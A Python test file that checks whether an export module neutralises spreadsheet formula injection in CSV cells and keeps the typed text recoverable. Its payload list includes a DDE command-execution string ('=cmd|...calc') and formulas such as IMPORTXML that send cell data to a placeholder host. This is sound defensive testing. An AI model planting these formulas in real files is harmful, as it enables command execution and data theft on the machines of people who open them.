"""F29: no cell of an export is a formula to any spreadsheet, whatever was typed; and what
was typed can be had back."""

import csv
import json
import re
from datetime import date
from itertools import count, cycle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heed.config.export import tables
from heed.config.export.reach import models_of_casework
from heed.config.export.tables import put_table
from heed.config.export.values import fields_of
from heed.papers.formulas import as_typed, guarded
from heed.referrals.models import Referral
from heed.rulebook.language import Stage
from heed.vault.fields import SealedBytes, SealedDate, SealedJSON
from tests.cases.factories import NOON, a_case_with_people, it_is
from tests.config.exporting import Words, export, planted

PAYLOADS = [
    *('=cmd|"/C calc"!A0', "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"),
    *("＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "⁼1", "₊1", "−1+1"),
    *(" =1", "  -1+2", "\u00a0=1", "\u2003=1", "\u3000=1", "\u200b=1", "\ufeff=1"),
    *(
        "\u202e=1",
        "\u2060=1",
        "\0=1",
        '"=1"',
        "'=1",
        "''=1",
        "`=1",
        "“=1".replace("“", '"'),
    ),
    *("a;=1", "a；=1", "a; =1", ";;@x", '=HYPERLINK("http://e.example";"x")'),
    *('=IMPORTXML(CONCAT("http://e.example/"; A1); "//a")', "@=1", "-@SUM(1)", "=\n1"),
    *("a\t=1", "a|=1", "Seen;\n=1", "a\n=1"),
    *("\x0b=1", "\x85=1", "\u2028=1", "+44 1632 960001"),
]
assert len(set(PAYLOADS)) >= 40

MODELS = [each for each in models_of_casework() if fields_of(each)]


def written(folder, name):
    """The rows of a table as a spreadsheet reads them, and as they stand in the JSON."""
    (folder / tables.FOLDER).mkdir(exist_ok=True)
    path = folder / tables.FOLDER / name
    with path.with_name(f"{name}.csv").open(newline="", encoding="utf-8") as kept:
        rows = list(csv.DictReader(kept, strict=True))
    return rows, json.loads(path.with_name(f"{name}.json").read_text())


def is_harmless(cell: str) -> bool:
    """By other means than the guard's: a number, or text of which the first letter that
    can be seen begins no formula in any width; nor does one where it may be divided."""
    if re.fullmatch(r"-?\d+(\.\d+)?", cell):
        return True
    parts = re.split(r"[;；\t|\r\n]", cell)
    seen = (
        next((c for c in p if c.isprintable() and not c.isspace()), "") for p in parts
    )
    return not set(seen) & set("=+-@＝＋－＠﹦﹢﹣﹫⁼₊−") and cell[:1] not in set(
        "\t\r\n"
    )


@pytest.mark.parametrize("model", MODELS, ids=lambda model: model._meta.label)
def test_no_column_of_any_table_holds_a_formula(model, tmp_path):
    columns = [field.name for field in fields_of(model)]
    rows = [dict.fromkeys(columns, payload) for payload in PAYLOADS]
    (tmp_path / tables.FOLDER).mkdir()

    put_table(tmp_path, model._meta.label, columns, rows)

    cells, plain = written(tmp_path, model._meta.label)
    assert plain == rows
    for payload, row in zip(PAYLOADS, cells, strict=True):
        assert set(row) == set(columns)
        assert {c for c in row.values() if not is_harmless(c)} == set()
        assert set(map(as_typed, row.values())) == {payload.replace("\0", "")}


class Payloads(Words):
    """Puts a formula in every sealed field that takes words."""

    def __init__(self):
        super().__init__()
        self.payloads, self.numbers_of_days = cycle(PAYLOADS), count()

    def for_field(self, field):
        if isinstance(field, SealedDate | SealedBytes):
            return super().for_field(field)
        payload = next(self.payloads)
        if isinstance(field, SealedJSON):
            return {payload: [payload, {"within": payload}]}
        return payload


@pytest.mark.django_db
def test_no_cell_of_an_export_is_a_formula(tmp_path):
    """All is taken out; one case alone is written by the same hand."""
    with it_is(NOON):
        case, people = a_case_with_people()
        referral = planted(case, Payloads())[Referral]
        Referral.objects.filter(pk=referral.pk).update(
            case=None, stage=Stage.REFERRAL_RECEIVED, reference="R-1", received_at=NOON
        )
        export(tmp_path / "all", by=people["manager"], what=("all",))

    for folder, least in ((case.reference, 40), ("referrals/R-1", 3)):
        files = list((tmp_path / "all" / folder).rglob("*.csv"))
        assert len(files) >= least
        cells = {each.name: list(cells_of(each)) for each in files}
        assert {n: c for n, c in cells.items() if not all(map(is_harmless, c))} == {}
        assert sum(c.startswith("'") for each in cells.values() for c in each) >= least


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as kept:
        for row in csv.reader(kept, strict=True):
            yield from row


@settings(max_examples=300)
@given(st.text(alphabet="=+-@;'\"\t\n\r a|＝；−\u200b"))
def test_what_was_typed_can_be_had_back(text):
    assert as_typed(guarded(text)) == text


@pytest.mark.parametrize(
    "value", [-5, 0, 1.5, None, True, date(2026, 3, 1).isoformat()]
)
def test_numbers_and_days_stay_what_they_are(value):
    assert tables._guarded(value) == ("" if value is None else str(value))
